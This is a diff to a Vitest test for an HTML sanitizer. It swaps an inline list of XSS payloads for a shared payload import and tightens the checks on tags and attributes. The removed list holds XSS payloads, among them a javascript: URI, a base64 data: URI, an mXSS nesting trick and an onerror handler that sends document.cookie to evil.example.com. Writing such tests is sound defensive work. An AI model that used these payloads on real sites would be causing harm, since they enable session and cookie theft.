@@ -1,35 +1,26 @@
 import { describe, expect, it } from 'vitest';
+import { HTML_PAYLOADS } from '../../test/support/hostile-payloads';
 import { sanitizeHtml } from './sanitize-html';
 
-/** Payloads after DOMPurify's own fixtures and OWASP's XSS filter evasion cheat sheet. */
-const HOSTILE = [
-  '<img src=x onerror=alert(1)>',
-  '<script>alert(1)</script>',
-  '<svg onload=alert(1)>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="  JaVaScRiPt:alert(1)">x</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
-  '<iframe src="https://evil.example.com"></iframe>',
-  '<form action="https://evil.example.com"><input name=a></form>',
-  '<div style="background:url(javascript:alert(1))">x</div>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-  '<details open ontoggle=alert(1)>',
-  '<a href="//evil.example.com">x</a>',
-  '<object data="javascript:alert(1)"></object>',
-  '<body onload=alert(1)>',
-  '<img src="x" onerror="fetch(\'https://evil.example.com?c=\'+document.cookie)">',
-];
-
 describe('sanitizeHtml', () => {
-  it.each(HOSTILE)('defuses %s', (payload) => {
+  it('meets at least 30 payloads', () => {
+    expect(HTML_PAYLOADS.length).toBeGreaterThanOrEqual(30);
+  });
+
+  it.each(HTML_PAYLOADS)('defuses %s', (payload) => {
     const host = document.createElement('div');
     host.innerHTML = sanitizeHtml(payload);
-    expect(host.querySelector('script, iframe, form, input, object, style')).toBeNull();
+    expect(
+      host.querySelector(
+        'script, iframe, form, input, select, textarea, button, object, embed, style, base, meta, link, template',
+      ),
+    ).toBeNull();
     for (const element of Array.from(host.querySelectorAll('*'))) {
       for (const attribute of Array.from(element.attributes)) {
         expect(attribute.name).not.toMatch(/^on/i);
         expect(attribute.name).not.toBe('style');
-        expect(attribute.value).not.toMatch(/javascript:|data:/i);
+        expect(attribute.name).not.toMatch(/formaction|xlink:href/i);
+        expect(attribute.value).not.toMatch(/javascript:|vbscript:|data:/i);
       }
     }
     expect(host.querySelector('a[href^="//"]')).toBeNull();
